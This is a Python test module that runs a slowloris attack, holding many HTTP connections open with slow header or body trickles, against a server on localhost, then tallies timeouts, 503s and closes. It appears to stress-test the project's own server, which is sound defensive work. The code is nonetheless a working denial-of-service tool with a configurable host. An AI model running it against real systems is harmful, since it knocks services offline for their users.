"""Slow clients: many connections that send their request a line at a time.

``python -m tests.campaigns.slowloris --port 8430 --connections 20000`` runs the attack
of issue 8 against a running server (raise ``ulimit -n`` first) and prints what became
of the connections. Tests call :func:`attack` with a few hundred.
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import selectors
import socket
import time
from dataclasses import dataclass, field


@dataclass
class Outcome:
    opened: int = 0
    failed_to_open: int = 0
    closed_by_server: int = 0
    answered_408: int = 0
    answered_503: int = 0
    still_open: int = 0
    seconds: float = 0.0
    close_times: list[float] = field(default_factory=list)


def attack(
    host: str,
    port: int,
    connections: int,
    *,
    interval: float = 0.5,
    duration: float = 30.0,
    body: bool = False,
) -> Outcome:
    """Open ``connections`` sockets; each sends a request line, then one header line (or,
    with ``body``, one body byte after complete headers) every ``interval`` seconds,
    for at most ``duration`` seconds or until the server has closed them all."""
    out = Outcome()
    sel = selectors.DefaultSelector()
    socks: dict[socket.socket, float] = {}
    start = time.monotonic()
    for _ in range(connections):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            sock.connect((host, port))
        except OSError:
            out.failed_to_open += 1
            sock.close()
            continue
        sock.setblocking(False)
        if body:
            head = b"POST /v1/pairing HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            head += b"content-type: application/json\r\n"
            sock.send(head + b"content-length: 1000\r\n\r\n")
        else:
            sock.send(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        sel.register(sock, selectors.EVENT_READ)
        socks[sock] = time.monotonic()
        out.opened += 1
    next_send = time.monotonic() + interval
    while socks and time.monotonic() - start < duration:
        timeout = max(0.0, next_send - time.monotonic())
        for key, _ in sel.select(timeout):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            try:
                data = sock.recv(4096)
            except OSError as exc:
                data = b"" if exc.errno in (errno.ECONNRESET, errno.EPIPE) else b"?"
            if b" 408 " in data[:20]:
                out.answered_408 += 1
            if b" 503 " in data[:20]:
                out.answered_503 += 1
            if data in (b"", b"?") or b"connection: close" in data.lower():
                out.closed_by_server += 1
                out.close_times.append(time.monotonic() - socks.pop(sock))
                sel.unregister(sock)
                sock.close()
        if time.monotonic() >= next_send:
            next_send += interval
            for sock in list(socks):
                with contextlib.suppress(OSError):  # closed by the server: recv sees it
                    sock.send(b"1" if body else b"X-Slow: 1\r\n")
    out.still_open = len(socks)
    for sock in socks:
        sel.unregister(sock)
        sock.close()
    sel.close()
    out.seconds = time.monotonic() - start
    return out


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8430)
    parser.add_argument("--connections", type=int, default=20000)
    parser.add_argument("--interval", type=float, default=5.0)
    parser.add_argument("--duration", type=float, default=60.0)
    args = parser.parse_args()
    outcome = attack(
        args.host,
        args.port,
        args.connections,
        interval=args.interval,
        duration=args.duration,
    )
    print(
        f"opened {outcome.opened} (failed {outcome.failed_to_open}),"
        f" closed by the server {outcome.closed_by_server} (408: {outcome.answered_408},"
        f" 503: {outcome.answered_503}), still open {outcome.still_open},"
        f" in {outcome.seconds:.1f}s"
    )


if __name__ == "__main__":
    main()
